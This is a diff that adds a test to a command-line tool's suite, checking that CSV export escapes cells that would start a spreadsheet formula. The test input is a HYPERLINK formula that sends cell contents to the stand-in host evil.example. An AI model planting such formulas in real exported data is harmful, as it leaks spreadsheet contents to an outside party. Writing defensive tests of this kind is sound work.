@@ -164,6 +164,16 @@ def test_events_filter_by_type_company_and_dates(cli: Cli, history):
     assert ids("--type", "factory", "--type", "bankruptcy") == ids()
 
 
+def test_csv_cells_that_would_start_a_formula_are_kept_as_text(cli: Cli, history):
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert cli("add", "factory", "--company", "catl", "--date", "2024", "--title", title).exit_code == 0
+    [row] = [r for r in csv.DictReader(io.StringIO(cli("events", "--company", "catl",
+                                                         "--format", "csv").stdout))]
+    assert row["title"] == "'" + title
+    shown = json.loads(cli("show", "catl", "--format", "json").stdout)
+    assert [e["title"] for e in shown] == [title]  # JSON as it is
+
+
 def test_csv_has_a_header_and_one_row_per_event(cli: Cli, history):
     result = cli("events", "--format", "csv")
     assert result.exit_code == 0
